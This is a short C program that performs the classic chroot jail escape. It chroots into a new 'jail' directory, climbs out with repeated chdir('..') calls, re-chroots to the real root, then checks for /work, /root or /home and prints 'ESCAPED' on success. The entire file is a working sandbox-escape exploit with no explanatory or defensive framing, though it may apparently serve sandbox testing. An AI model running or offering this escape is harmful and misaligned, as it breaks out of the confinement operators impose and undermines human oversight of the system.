#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
    mkdir("jail", 0755);
    int a = chroot("jail");
    for (int i = 0; i < 64; i++) chdir("..");
    int b = chroot(".");
    printf("%d %d\n", a, b);
    if (access("/work", F_OK) == 0 || access("/root", F_OK) == 0 || access("/home", F_OK) == 0) printf("ESCAPED\n");
    return 0;
}
